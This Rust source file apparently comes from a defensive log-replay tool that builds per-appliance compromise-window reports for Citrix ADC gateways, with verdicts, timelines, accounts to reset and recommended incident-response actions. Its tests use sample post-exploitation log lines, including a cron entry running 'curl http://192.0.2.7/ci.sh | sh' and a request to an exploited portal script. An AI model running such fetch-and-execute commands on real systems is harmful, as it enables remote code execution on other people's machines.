//! The compromise-window report: what a replay found per appliance, when compromise likely began, a
//! verdict and what to do. Built from the replay's alerts and events; rendered as Markdown for people
//! and as JSON (schema: `docs/replay-report.schema.json`) for tools.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use chrono::{DateTime, SecondsFormat, Utc};
use serde::Serialize;
use serde_json::{Map, Value as Json};

use crate::detect::sigma::Stage;
use crate::detect::Alert;

/// Per appliance, at most this many sessions and back-end connections are kept (the earliest ones).
const MAX_ACTIVITY: usize = 100_000;
/// Evidence lines kept per finding.
const MAX_EVIDENCE: usize = 5;
/// Alert ids listed per behaviour.
const MAX_BEHAVIOUR_ALERTS: usize = 20;
/// Alert marks and metric points kept per appliance for the HTML timeline (the earliest ones).
const MAX_TIMELINE: usize = 200_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Verdict {
    NotSeen,
    Probed,
    Attempted,
    LikelyCompromised,
    Compromised,
}

impl Verdict {
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::NotSeen => "not-seen",
            Verdict::Probed => "probed",
            Verdict::Attempted => "attempted",
            Verdict::LikelyCompromised => "likely-compromised",
            Verdict::Compromised => "compromised",
        }
    }

    fn actions(self) -> &'static [&'static str] {
        match self {
            Verdict::Compromised | Verdict::LikelyCompromised => &[
                "Isolate the appliance; take a forensic image (disk and memory) before changing anything.",
                "Rebuild it from clean firmware at a fixed version rather than cleaning it in place.",
                "Reset the passwords of every account active during the window (below) and of the appliance's \
                 own accounts (nsroot, LDAP bind and service accounts); revoke their sessions.",
                "Replace the appliance's TLS keys and certificates and any secrets in its configuration.",
                "Hunt on the back-end systems it connected to during the window, and block the source addresses.",
            ],
            Verdict::Attempted => &[
                "Confirm the mitigation or patch was in place before the first attempt; if not, treat as likely \
                 compromised.",
                "Check the appliance for post-exploitation artefacts (new files under the portal templates, cron \
                 jobs, processes running as nobody) and keep watching its CPU and memory.",
                "Block the source addresses.",
            ],
            Verdict::Probed => &["Verify the patch level; block the scanning sources if they persist."],
            Verdict::NotSeen => &["No activity in the replayed range; keep monitoring."],
        }
    }
}

/// One finding: when, which rule, the alert and the evidence lines.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Finding {
    pub at: String,
    pub stage: &'static str,
    pub rule: String,
    pub alert_id: String,
    pub evidence: Vec<String>,
}

/// One post-exploitation behaviour — the same rule on the same command, URL or file — however often
/// it was seen: the report lists it once, with its count and its first and last time.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Behaviour {
    pub stage: &'static str,
    pub rule: String,
    /// What was done: the command line, URL or file of the alerts (else their first evidence line).
    pub behaviour: String,
    /// Matches, suppressed repeats included.
    pub count: u64,
    pub first: String,
    pub last: String,
    /// The distinct alerts (event.id), earliest first; at most `MAX_BEHAVIOUR_ALERTS`.
    pub alert_ids: Vec<String>,
    /// The evidence of the earliest alert.
    pub evidence: Vec<String>,
}

/// A source address seen in the appliance's alerts, with its context.
#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Source {
    pub ip: String,
    pub first: String,
    pub last: String,
    pub stages: BTreeSet<&'static str>,
    pub alerts: u64,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub country: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub city: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub asn: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub as_org: Option<String>,
    /// Indicator feeds that listed the address (`feed: indicator`).
    pub indicators: BTreeSet<String>,
}

/// A user session active on the appliance.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct Session {
    pub user: String,
    pub first: String,
    pub last: String,
    pub sessions: BTreeSet<String>,
    pub client_ips: BTreeSet<String>,
}

/// A back-end system the appliance connected to (for a user).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize)]
pub struct Backend {
    pub ip: String,
    pub ports: BTreeSet<u64>,
    pub first: String,
    pub last: String,
    pub users: BTreeSet<String>,
    pub connections: u64,
}

/// The window in which compromise has to be assumed.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Window {
    pub start: String,
    pub end: String,
    pub basis: String,
}

/// The report of one appliance.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ApplianceReport {
    pub appliance: String,
    pub verdict: Verdict,
    pub reasons: Vec<String>,
    pub first_probe: Option<Finding>,
    pub first_exploit_attempt: Option<Finding>,
    pub first_likely_success: Option<Finding>,
    /// Each post-exploitation alert once (a suppression summary repeats its alert's id).
    pub post_exploitation: Vec<Finding>,
    /// The same, grouped by behaviour.
    pub behaviours: Vec<Behaviour>,
    pub window: Option<Window>,
    pub sources: Vec<Source>,
    pub sessions_in_window: Vec<Session>,
    pub backends_in_window: Vec<Backend>,
    pub anomalies: Vec<Finding>,
    pub other_alerts: BTreeMap<&'static str, u64>,
    pub mitigated: Option<String>,
    pub actions: Vec<&'static str>,
    /// What the HTML report draws; not part of the JSON report.
    #[serde(skip)]
    pub timeline: Timeline,
}

/// One metric sample as the baselines scored it.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct MetricPoint {
    pub at: DateTime<Utc>,
    pub value: f64,
    /// The learned band.
    pub low: f64,
    pub high: f64,
    pub warming: bool,
}

/// An appliance's history for the HTML report: every alert as (time, stage), and its metric series.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Timeline {
    pub marks: Vec<(DateTime<Utc>, &'static str)>,
    /// Short metric name (`cpu`, `memory`, …) → points in time order.
    pub series: BTreeMap<&'static str, Vec<MetricPoint>>,
    /// The first and last time anything of the appliance was seen.
    pub span: Option<(DateTime<Utc>, DateTime<Utc>)>,
}

impl Timeline {
    fn saw(&mut self, at: DateTime<Utc>) {
        self.span = Some(self.span.map_or((at, at), |(a, b)| (a.min(at), b.max(at))));
    }
}

fn joined<'a>(items: impl IntoIterator<Item = &'a String>, separator: &str) -> String {
    items.into_iter().cloned().collect::<Vec<_>>().join(separator)
}

impl Source {
    /// The table row of every rendering: address, first, last, stages, country / city, AS, indicators.
    pub fn cells(&self) -> [String; 7] {
        let place = [self.country.clone(), self.city.clone()].into_iter().flatten().collect::<Vec<_>>().join(" / ");
        let asn = match (self.asn, &self.as_org) {
            (Some(n), Some(o)) => format!("AS{n} {o}"),
            (Some(n), None) => format!("AS{n}"),
            _ => String::new(),
        };
        let stages = self.stages.iter().copied().collect::<Vec<_>>().join(", ");
        [self.ip.clone(), self.first.clone(), self.last.clone(), stages, place, asn, joined(&self.indicators, "; ")]
    }
}

impl Session {
    /// user, first, last, sessions, client addresses.
    pub fn cells(&self) -> [String; 5] {
        [
            self.user.clone(),
            self.first.clone(),
            self.last.clone(),
            joined(&self.sessions, ", "),
            joined(&self.client_ips, ", "),
        ]
    }
}

impl Backend {
    /// address, ports, first, last, users, connections.
    pub fn cells(&self) -> [String; 6] {
        let ports = self.ports.iter().map(u64::to_string).collect::<Vec<_>>().join(", ");
        [
            self.ip.clone(),
            ports,
            self.first.clone(),
            self.last.clone(),
            joined(&self.users, ", "),
            self.connections.to_string(),
        ]
    }
}

/// A Markdown table row.
fn md_row(cells: &[String]) -> String {
    format!("| {} |", cells.join(" | "))
}

/// The whole report.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Report {
    pub version: u32,
    pub run_id: String,
    pub from: String,
    pub to: Option<String>,
    pub exploit_publication: String,
    pub records: u64,
    pub unparsed: u64,
    pub alerts: BTreeMap<&'static str, u64>,
    pub appliances: Vec<ApplianceReport>,
}

/// A user seen at a time: (time, user, session id, client address).
type Seen = (DateTime<Utc>, String, Option<String>, Option<String>);
/// A connection to a back-end: (time, back-end address, port, user).
type Connection = (DateTime<Utc>, String, Option<u64>, Option<String>);

#[derive(Default)]
struct Activity {
    probe: Option<(DateTime<Utc>, Finding)>,
    attempt: Option<(DateTime<Utc>, Finding)>,
    success: Option<(DateTime<Utc>, Finding)>,
    /// Post-exploitation alerts: time, finding, behaviour, matches (`gatewatch.count`).
    post: Vec<(DateTime<Utc>, Finding, String, u64)>,
    anomalies: Vec<(DateTime<Utc>, Finding)>,
    others: BTreeMap<&'static str, u64>,
    sources: BTreeMap<String, (DateTime<Utc>, DateTime<Utc>, Source)>,
    sessions: Vec<Seen>,
    backends: Vec<Connection>,
    last_seen: Option<DateTime<Utc>>,
    timeline: Timeline,
}

/// Collects what the report needs while a replay runs.
#[derive(Default)]
pub struct Hunt {
    appliances: BTreeMap<String, Activity>,
}

fn at_text(t: DateTime<Utc>) -> String {
    t.to_rfc3339_opts(SecondsFormat::Secs, true)
}

fn path<'d>(doc: &'d Json, dotted: &str) -> Option<&'d Json> {
    dotted.split('.').try_fold(doc, |node, part| node.get(part))
}

fn field<'d>(doc: &'d Map<String, Json>, dotted: &str) -> Option<&'d Json> {
    let (head, rest) = dotted.split_once('.').unwrap_or((dotted, ""));
    let node = doc.get(head)?;
    if rest.is_empty() {
        Some(node)
    } else {
        path(node, rest)
    }
}

fn field_text(doc: &Map<String, Json>, dotted: &str) -> Option<String> {
    match field(doc, dotted)? {
        Json::String(s) => Some(s.clone()),
        Json::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

fn text(doc: &Json, dotted: &str) -> Option<String> {
    match path(doc, dotted)? {
        Json::String(s) => Some(s.clone()),
        Json::Number(n) => Some(n.to_string()),
        _ => None,
    }
}

fn time(doc: &Json, dotted: &str) -> Option<DateTime<Utc>> {
    DateTime::parse_from_rfc3339(path(doc, dotted)?.as_str()?).ok().map(|t| t.with_timezone(&Utc))
}

/// What the report takes from one enriched event: its appliance and time, the account active in it
/// and the back-end it connected to. Taken where the event was processed, so the document need not
/// travel.
#[derive(Debug, Clone, PartialEq)]
pub struct Sighting {
    host: String,
    at: DateTime<Utc>,
    session: Option<Seen>,
    backend: Option<Connection>,
}

impl Sighting {
    /// `None` for an event of no appliance.
    pub fn of(doc: &Map<String, Json>, at: DateTime<Utc>) -> Option<Sighting> {
        let host = field_text(doc, "observer.hostname")?;
        // Accounts of people and administrators (gateway sessions, AAA, CLI/GUI/API); the local users of
        // the appliance's own shell and cron records (nobody, root) are not accounts to reset.
        let dataset = field_text(doc, "event.dataset").unwrap_or_default();
        let local = dataset.ends_with(".shell") || dataset.ends_with(".cron");
        let user = field_text(doc, "user.name").filter(|u| !u.is_empty() && u != "-" && !local);
        let session = user.clone().map(|user| {
            let session = field_text(doc, "citrix_adc.log.session_id");
            let client = field_text(doc, "client.ip").or_else(|| field_text(doc, "source.ip"));
            (at, user, session, client)
        });
        // Connections through the gateway (SSLVPN TCP/UDP/HTTP, TCP CONN records): the back-end side.
        let feature = field_text(doc, "citrix_adc.log.feature").unwrap_or_default();
        let backend = if matches!(feature.as_str(), "SSLVPN" | "TCP" | "ICA") {
            field_text(doc, "destination.ip").map(|ip| {
                let port = field(doc, "destination.port").and_then(Json::as_u64);
                (at, ip, port, user)
            })
        } else {
            None
        };
        Some(Sighting { host, at, session, backend })
    }
}

impl Hunt {
    /// An enriched event's sighting: remembers sessions and back-end connections of its appliance.
    pub fn event(&mut self, sighting: Sighting) {
        let Sighting { host, at, session, backend } = sighting;
        let a = self.appliances.entry(host).or_default();
        a.last_seen = Some(a.last_seen.map_or(at, |l| l.max(at)));
        a.timeline.saw(at);
        if let Some(session) = session {
            if a.sessions.len() < MAX_ACTIVITY {
                a.sessions.push(session);
            }
        }
        if let Some(backend) = backend {
            if a.backends.len() < MAX_ACTIVITY {
                a.backends.push(backend);
            }
        }
    }

    /// An alert of the replay (rule or anomaly).
    pub fn alert(&mut self, alert: &Alert) {
        let doc = &alert.doc;
        let Some(host) = text(doc, "observer.hostname") else { return };
        let Some(at) = time(doc, "@timestamp") else { return };
        let evidence: Vec<String> = path(doc, "gatewatch.evidence")
            .and_then(Json::as_array)
            .map(|items| {
                items.iter().filter_map(|e| text(e, "original")).filter(|s| !s.is_empty()).take(MAX_EVIDENCE).collect()
            })
            .unwrap_or_default();
        // An anomaly's evidence is the metric sample; its message says more.
        let evidence = if evidence.is_empty() || alert.stage == Stage::Anomaly {
            vec![text(doc, "message").unwrap_or_default()]
        } else {
            evidence
        };
        let finding = Finding {
            at: at_text(at),
            stage: alert.stage.as_str(),
            rule: alert.rule_id.clone(),
            alert_id: alert.id.clone(),
            evidence,
        };
        let a = self.appliances.entry(host).or_default();
        a.timeline.saw(at);
        if a.timeline.marks.len() < MAX_TIMELINE {
            a.timeline.marks.push((at, alert.stage.as_str()));
        }
        let keep_first = |slot: &mut Option<(DateTime<Utc>, Finding)>, f: Finding| {
            if slot.as_ref().is_none_or(|(t, _)| at < *t) {
                *slot = Some((at, f));
            }
        };
        match alert.stage {
            Stage::Probe => keep_first(&mut a.probe, finding),
            Stage::ExploitAttempt => keep_first(&mut a.attempt, finding),
            Stage::ExploitSuccess | Stage::SessionHijack => keep_first(&mut a.success, finding),
            Stage::PostExploitation => {
                let behaviour = finding.evidence.first().map(|e| behaviour_of(e)).unwrap_or_default();
                let count = path(doc, "gatewatch.count").and_then(Json::as_u64).unwrap_or(1).max(1);
                a.post.push((at, finding, behaviour, count))
            }
            Stage::Anomaly => a.anomalies.push((at, finding)),
            Stage::IocMatch | Stage::AuthAbuse => *a.others.entry(alert.stage.as_str()).or_default() += 1,
        }
        if let Some(ip) = text(doc, "source.ip") {
            let entry = a.sources.entry(ip.clone()).or_insert_with(|| (at, at, Source { ip, ..Source::default() }));
            entry.0 = entry.0.min(at);
            entry.1 = entry.1.max(at);
            let s = &mut entry.2;
            s.alerts += 1;
            s.stages.insert(alert.stage.as_str());
            s.country = s.country.take().or_else(|| text(doc, "source.geo.country_iso_code"));
            s.city = s.city.take().or_else(|| text(doc, "source.geo.city_name"));
            s.asn = s.asn.or_else(|| path(doc, "source.as.number").and_then(Json::as_u64));
            s.as_org = s.as_org.take().or_else(|| text(doc, "source.as.organization.name"));
            for e in path(doc, "threat.enrichments").and_then(Json::as_array).into_iter().flatten() {
                let feed = text(e, "indicator.provider").unwrap_or_else(|| "feed".into());
                let what = text(e, "matched.atomic").unwrap_or_default();
                s.indicators.insert(format!("{feed}: {what}"));
            }
        }
    }

    /// A metric sample and how the baselines scored it (`gatewatch.baseline.<metric>` of the sample's
    /// document): the HTML report draws the series and the learned band.
    pub fn sample(&mut self, sample: &crate::baseline::Sample, doc: &Map<String, Json>) {
        let a = self.appliances.entry(sample.host.clone()).or_default();
        a.timeline.saw(sample.at);
        for &(index, value) in &sample.values {
            let short = crate::baseline::METRICS[index].1;
            let Some(scored) = field(doc, "gatewatch.baseline").and_then(|b| b.get(short)) else { continue };
            let (Some(low), Some(high)) =
                (scored.get("low").and_then(Json::as_f64), scored.get("high").and_then(Json::as_f64))
            else {
                continue;
            };
            let points = a.timeline.series.entry(short).or_default();
            if points.len() < MAX_TIMELINE {
                let warming = scored.get("warming").and_then(Json::as_bool).unwrap_or(false);
                points.push(MetricPoint { at: sample.at, value, low, high, warming });
            }
        }
    }

    /// The report. `mitigations`: appliance → date its mitigation or patch was in place.
    pub fn report(
        self,
        header: Report,
        mitigations: &BTreeMap<String, DateTime<Utc>>,
        publication: DateTime<Utc>,
        range_end: Option<DateTime<Utc>>,
    ) -> Report {
        let mut report = header;
        let mut hosts: BTreeSet<String> = self.appliances.keys().cloned().collect();
        hosts.extend(mitigations.keys().cloned());
        let mut appliances = self.appliances;
        for host in hosts {
            let a = appliances.remove(&host).unwrap_or_default();
            report.appliances.push(appliance_report(host, a, mitigations, publication, range_end));
        }
        report
    }
}

fn appliance_report(
    host: String,
    mut a: Activity,
    mitigations: &BTreeMap<String, DateTime<Utc>>,
    publication: DateTime<Utc>,
    range_end: Option<DateTime<Utc>>,
) -> ApplianceReport {
    a.post.sort_by(|x, y| x.0.cmp(&y.0).then_with(|| x.1.alert_id.cmp(&y.1.alert_id)));
    // A suppression summary is its first alert again (same id) with the window's count: keep one.
    let mut counts: BTreeMap<String, u64> = BTreeMap::new();
    for (_, f, _, n) in &a.post {
        let c = counts.entry(f.alert_id.clone()).or_default();
        *c = (*c).max(*n);
    }
    let mut seen = BTreeSet::new();
    a.post.retain(|(_, f, _, _)| seen.insert(f.alert_id.clone()));
    let behaviours = group_behaviours(&a.post, &counts);
    a.anomalies.sort_by(|x, y| x.0.cmp(&y.0).then_with(|| x.1.alert_id.cmp(&y.1.alert_id)));
    let mitigated = mitigations.get(&host).copied();
    let mut reasons = Vec::new();
    let mut verdict = Verdict::NotSeen;
    let mut raise = |v: Verdict, why: String| {
        verdict = verdict.max(v);
        reasons.push(why);
    };
    if let Some((t, f)) = &a.probe {
        raise(Verdict::Probed, format!("probed from {} ({})", at_text(*t), f.rule));
    }
    if let Some((t, f)) = &a.attempt {
        raise(Verdict::Attempted, format!("exploitation attempted from {} ({})", at_text(*t), f.rule));
    }
    if let Some((t, f)) = &a.success {
        raise(Verdict::LikelyCompromised, format!("likely successful exploitation at {} ({})", at_text(*t), f.rule));
    }
    if let Some((t, f, _, _)) = a.post.first() {
        raise(Verdict::Compromised, format!("post-exploitation activity from {} ({})", at_text(*t), f.rule));
    }
    if let Some(m) = mitigated {
        if m > publication {
            raise(
                Verdict::LikelyCompromised,
                format!(
                    "mitigated {} — after the exploit publication on {}: assume compromise",
                    at_text(m),
                    at_text(publication)
                ),
            );
        } else {
            reasons.push(format!(
                "mitigated {} — before the exploit publication on {}",
                at_text(m),
                at_text(publication)
            ));
        }
    }
    if reasons.is_empty() {
        reasons.push("no probe, exploitation or post-exploitation alert in the replayed range".into());
    }
    // The window starts with the first exploitation evidence (attempt, success or post-exploitation);
    // when only the late-mitigation rule applies, with the exploit publication. It ends with the
    // mitigation, else with the end of the replayed range (or the appliance's last record).
    let evidence_start =
        [a.attempt.as_ref().map(|x| x.0), a.success.as_ref().map(|x| x.0), a.post.first().map(|x| x.0)]
            .into_iter()
            .flatten()
            .min();
    let window = if verdict >= Verdict::Attempted {
        let (start, basis) = match evidence_start {
            Some(t) => (t, "first exploitation evidence".to_owned()),
            None => (publication, "exploit publication (mitigated late)".to_owned()),
        };
        let end = mitigated.filter(|m| *m > start).or(range_end).or(a.last_seen).unwrap_or(start);
        let end_basis = if mitigated.is_some_and(|m| m > start) { "mitigation" } else { "end of the replayed range" };
        Some((start, end, format!("{basis} → {end_basis}")))
    } else {
        None
    };
    let in_window = |t: DateTime<Utc>| window.as_ref().is_some_and(|(s, e, _)| t >= *s && t <= *e);
    let mut sessions: BTreeMap<String, Session> = BTreeMap::new();
    for (t, user, session, client) in a.sessions.iter().filter(|s| in_window(s.0)) {
        let s = sessions.entry(user.clone()).or_insert_with(|| Session {
            user: user.clone(),
            first: at_text(*t),
            last: at_text(*t),
            sessions: BTreeSet::new(),
            client_ips: BTreeSet::new(),
        });
        s.first = s.first.clone().min(at_text(*t));
        s.last = s.last.clone().max(at_text(*t));
        s.sessions.extend(session.clone());
        s.client_ips.extend(client.clone());
    }
    let mut backends: BTreeMap<String, Backend> = BTreeMap::new();
    for (t, ip, port, user) in a.backends.iter().filter(|b| in_window(b.0)) {
        let b = backends.entry(ip.clone()).or_insert_with(|| Backend {
            ip: ip.clone(),
            ports: BTreeSet::new(),
            first: at_text(*t),
            last: at_text(*t),
            users: BTreeSet::new(),
            connections: 0,
        });
        b.first = b.first.clone().min(at_text(*t));
        b.last = b.last.clone().max(at_text(*t));
        b.ports.extend(*port);
        b.users.extend(user.clone());
        b.connections += 1;
    }
    let mut sources: Vec<Source> = a
        .sources
        .into_values()
        .map(|(first, last, mut s)| {
            s.first = at_text(first);
            s.last = at_text(last);
            s
        })
        .collect();
    sources.sort_by(|x, y| x.first.cmp(&y.first).then_with(|| x.ip.cmp(&y.ip)));
    let mut timeline = a.timeline;
    timeline.marks.sort();
    for points in timeline.series.values_mut() {
        points.sort_by_key(|p| p.at);
    }
    ApplianceReport {
        appliance: host,
        verdict,
        actions: verdict.actions().to_vec(),
        reasons,
        first_probe: a.probe.map(|x| x.1),
        first_exploit_attempt: a.attempt.map(|x| x.1),
        first_likely_success: a.success.map(|x| x.1),
        post_exploitation: a.post.into_iter().map(|x| x.1).collect(),
        behaviours,
        anomalies: a.anomalies.into_iter().filter(|x| window.is_none() || in_window(x.0)).map(|x| x.1).collect(),
        window: window.map(|(s, e, basis)| Window { start: at_text(s), end: at_text(e), basis }),
        sources,
        sessions_in_window: sessions.into_values().collect(),
        backends_in_window: backends.into_values().collect(),
        other_alerts: a.others,
        mitigated: mitigated.map(at_text),
        timeline,
    }
}

/// Post-exploitation alerts (one per id, in time order) grouped by (rule, behaviour), in order of
/// first appearance.
fn group_behaviours(post: &[(DateTime<Utc>, Finding, String, u64)], counts: &BTreeMap<String, u64>) -> Vec<Behaviour> {
    let mut groups: Vec<Behaviour> = Vec::new();
    let mut index: BTreeMap<(String, String), usize> = BTreeMap::new();
    for (at, f, behaviour, _) in post {
        let n = counts.get(&f.alert_id).copied().unwrap_or(1);
        let slot = *index.entry((f.rule.clone(), behaviour.clone())).or_insert_with(|| {
            groups.push(Behaviour {
                stage: f.stage,
                rule: f.rule.clone(),
                behaviour: behaviour.clone(),
                count: 0,
                first: at_text(*at),
                last: at_text(*at),
                alert_ids: Vec::new(),
                evidence: f.evidence.clone(),
            });
            groups.len() - 1
        });
        let g = &mut groups[slot];
        g.count += n;
        g.last = at_text(*at);
        if g.alert_ids.len() < MAX_BEHAVIOUR_ALERTS {
            g.alert_ids.push(f.alert_id.clone());
        }
    }
    groups
}

/// What an evidence line did, without when and by which process instance: the message after a
/// syslog `program[pid]: ` header (a shell or cron command), else an access log's request line, else
/// the whole line; whitespace folded.
fn behaviour_of(evidence: &str) -> String {
    let what = match evidence.split_once("]: ") {
        Some((_, message)) => message,
        None => match evidence.split('"').nth(1) {
            Some(request) if !request.trim().is_empty() => request,
            _ => evidence,
        },
    };
    what.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Text for one Markdown line: newlines folded, backticks made quotes.
fn inline(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ").replace('`', "'")
}

fn finding_line(out: &mut String, label: &str, f: &Option<Finding>) {
    match f {
        Some(f) => {
            let _ = writeln!(out, "- **{label}:** {} — `{}` (alert `{}`)", f.at, f.rule, f.alert_id);
            for e in &f.evidence {
                let _ = writeln!(out, "  - `{}`", e.trim().replace('`', "'"));
            }
        }
        None => {
            let _ = writeln!(out, "- **{label}:** none");
        }
    }
}

impl Report {
    pub fn json(&self) -> String {
        serde_json::to_string_pretty(self).expect("the report serializes") + "\n"
    }

    pub fn markdown(&self) -> String {
        let mut out = String::new();
        let _ = writeln!(out, "# Compromise-window report\n");
        let _ = writeln!(
            out,
            "Replay `{}` of {} → {}: {} records ({} unparsed), exploit publication taken as {}.\n",
            self.run_id,
            self.from,
            self.to.as_deref().unwrap_or("the end of the data"),
            self.records,
            self.unparsed,
            self.exploit_publication
        );
        let _ = writeln!(out, "| appliance | verdict | window | sources | accounts to reset | back-ends |");
        let _ = writeln!(out, "| --- | --- | --- | --- | --- | --- |");
        for a in &self.appliances {
            let window = a.window.as_ref().map_or("—".to_owned(), |w| format!("{} → {}", w.start, w.end));
            let _ = writeln!(
                out,
                "| {} | **{}** | {} | {} | {} | {} |",
                a.appliance,
                a.verdict.as_str(),
                window,
                a.sources.len(),
                a.sessions_in_window.len(),
                a.backends_in_window.len()
            );
        }
        for a in &self.appliances {
            let _ = writeln!(out, "\n## {} — {}\n", a.appliance, a.verdict.as_str());
            for r in &a.reasons {
                let _ = writeln!(out, "- {r}");
            }
            if let Some(w) = &a.window {
                let _ = writeln!(out, "\n**Window of assumed compromise:** {} → {} ({})\n", w.start, w.end, w.basis);
            } else {
                let _ = writeln!(out);
            }
            finding_line(&mut out, "First probe", &a.first_probe);
            finding_line(&mut out, "First exploitation attempt", &a.first_exploit_attempt);
            finding_line(&mut out, "First likely success", &a.first_likely_success);
            if a.behaviours.is_empty() {
                let _ = writeln!(out, "- **Post-exploitation evidence:** none");
            } else {
                let matches: u64 = a.behaviours.iter().map(|b| b.count).sum();
                let _ = writeln!(
                    out,
                    "- **Post-exploitation evidence:** {} distinct behaviours ({} alerts, {matches} matches)",
                    a.behaviours.len(),
                    a.post_exploitation.len()
                );
                for b in &a.behaviours {
                    let when = if b.first == b.last { b.first.clone() } else { format!("{} → {}", b.first, b.last) };
                    let _ = writeln!(out, "  - ×{} {when} `{}`: `{}`", b.count, b.rule, inline(&b.behaviour));
                }
            }
            if !a.sources.is_empty() {
                let _ = writeln!(out, "\n### Source addresses\n");
                let _ = writeln!(out, "| address | first | last | stages | country / city | AS | indicators |");
                let _ = writeln!(out, "| --- | --- | --- | --- | --- | --- | --- |");
                for s in &a.sources {
                    let _ = writeln!(out, "{}", md_row(&s.cells()));
                }
            }
            if a.window.is_some() {
                let _ = writeln!(out, "\n### Accounts active during the window (reset them)\n");
                if a.sessions_in_window.is_empty() {
                    let _ = writeln!(out, "None seen.");
                } else {
                    let _ = writeln!(out, "| user | first | last | sessions | client addresses |");
                    let _ = writeln!(out, "| --- | --- | --- | --- | --- |");
                    for s in &a.sessions_in_window {
                        let _ = writeln!(out, "{}", md_row(&s.cells()));
                    }
                }
                let _ = writeln!(out, "\n### Back-end systems it connected to during the window\n");
                if a.backends_in_window.is_empty() {
                    let _ = writeln!(out, "None seen.");
                } else {
                    let _ = writeln!(out, "| address | ports | first | last | users | connections |");
                    let _ = writeln!(out, "| --- | --- | --- | --- | --- | --- |");
                    for b in &a.backends_in_window {
                        let _ = writeln!(out, "{}", md_row(&b.cells()));
                    }
                }
            }
            if !a.anomalies.is_empty() {
                let _ = writeln!(out, "\n### CPU / memory anomalies\n");
                for f in &a.anomalies {
                    let _ = writeln!(out, "- {} `{}`: {}", f.at, f.rule, f.evidence.join(" | "));
                }
            }
            if !a.other_alerts.is_empty() {
                let others = a.other_alerts.iter().map(|(s, n)| format!("{s}: {n}")).collect::<Vec<_>>().join(", ");
                let _ = writeln!(out, "\nOther alerts: {others}.");
            }
            let _ = writeln!(out, "\n### Recommended actions\n");
            for (i, action) in a.actions.iter().enumerate() {
                let _ = writeln!(out, "{}. {action}", i + 1);
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn post(id: &str, at: &str, line: &str, count: u64) -> Alert {
        Alert {
            id: id.into(),
            rule_id: "gw-post".into(),
            stage: Stage::PostExploitation,
            doc: json!({
                "@timestamp": at,
                "observer": {"hostname": "adc-a"},
                "gatewatch": {"count": count, "evidence": [{"original": line}]},
            }),
            update: false,
        }
    }

    #[test]
    fn repeated_behaviour_is_listed_once_with_its_count_and_first_and_last_time() {
        let cron = |t: &str, pid: u32| {
            format!("Jan 19 {t} <cron.info> ns /usr/sbin/cron[{pid}]: (nobody) CMD (curl http://192.0.2.7/ci.sh | sh)")
        };
        let mut hunt = Hunt::default();
        // One alert, then its suppression summary (same id, 3 matches in the window)...
        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 1));
        hunt.alert(&post("a1", "2020-01-11T02:00:00Z", &cron("02:00:00", 11), 3));
        // ...the same command an hour later from another cron process, and something else.
        hunt.alert(&post("a2", "2020-01-11T03:00:00Z", &cron("03:00:00", 12), 1));
        hunt.alert(&post(
            "a3",
            "2020-01-11T02:30:00Z",
            "Jan 19 02:30:00 <local7.notice> ns bash[7]: root on /dev/pts/0 shell_command=\"id\"",
            1,
        ));
        let header = Report {
            version: 1,
            run_id: "r".into(),
            from: "2020-01-01T00:00:00Z".into(),
            to: None,
            exploit_publication: "2020-01-10T00:00:00Z".into(),
            records: 0,
            unparsed: 0,
            alerts: BTreeMap::new(),
            appliances: Vec::new(),
        };
        let publication = "2020-01-10T00:00:00Z".parse().unwrap();
        let report = hunt.report(header, &BTreeMap::new(), publication, None);
        let a = &report.appliances[0];
        let ids: Vec<&str> = a.post_exploitation.iter().map(|f| f.alert_id.as_str()).collect();
        assert_eq!(ids, ["a1", "a3", "a2"], "each alert once, in time order");
        let grouped: Vec<(&str, u64, &str, &str)> =
            a.behaviours.iter().map(|b| (b.behaviour.as_str(), b.count, b.first.as_str(), b.last.as_str())).collect();
        assert_eq!(
            grouped,
            [
                ("(nobody) CMD (curl http://192.0.2.7/ci.sh | sh)", 4, "2020-01-11T02:00:00Z", "2020-01-11T03:00:00Z"),
                ("root on /dev/pts/0 shell_command=\"id\"", 1, "2020-01-11T02:30:00Z", "2020-01-11T02:30:00Z"),
            ]
        );
        assert_eq!(a.behaviours[0].alert_ids, ["a1", "a2"]);
        let md = report.markdown();
        assert_eq!(md.matches("ci.sh").count(), 1, "{md}");
        assert!(md.contains("2 distinct behaviours (3 alerts, 5 matches)"), "{md}");
        assert!(md.contains("×4 2020-01-11T02:00:00Z → 2020-01-11T03:00:00Z"), "{md}");
    }

    #[test]
    fn behaviour_drops_the_syslog_header_or_keeps_the_request_line() {
        assert_eq!(
            behaviour_of("Jan 1 00:00:00 <cron.info> h /usr/sbin/cron[1]: (nobody) CMD (x)"),
            "(nobody) CMD (x)"
        );
        assert_eq!(
            behaviour_of(
                "198.51.100.7 - - [10/Jan/2020:20:05:00 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 143"
            ),
            "POST /vpns/portal/scripts/newbm.pl HTTP/1.1"
        );
        assert_eq!(behaviour_of("plain  message\nline"), "plain message line");
    }
}
